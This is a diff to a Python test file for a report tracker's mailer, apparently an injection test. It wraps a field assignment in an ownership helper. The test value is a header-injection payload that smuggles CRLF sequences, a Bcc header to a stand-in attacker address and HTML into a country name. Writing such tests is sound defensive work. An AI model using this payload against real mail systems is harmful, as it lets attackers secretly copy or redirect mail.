@@ -14,6 +14,7 @@ from tests.national_reports import begin_report, commitment_id, report_at
 from tests.outbox import MailServer, SetClock, mailer, mails, send_all
 from tests.people import make_actor, make_user, state_id
 from tests.signing import SIGNER
+from tests.tampering import as_owner
 from tracker.delivery.mail_texts import TEXTS, text_of
 from tracker.domain.clock import system_clock
 from tracker.domain.mail import MailKind, MailState
@@ -222,7 +223,8 @@ class TestInjection:
         self, session: Session, settings: Settings, server: MailServer
     ) -> None:
         work = begin_report(session)
-        work.report.state.name = {"en": "Ghana\r\nBcc: thief@evil.example\r\n\r\n<b>Hello</b>"}
+        with as_owner(session):
+            work.report.state.name = {"en": "Ghana\r\nBcc: thief@evil.example\r\n\r\n<b>Hello</b>"}
         work.submit()
         send(session, settings, server)
         (letter,) = server.letters.got
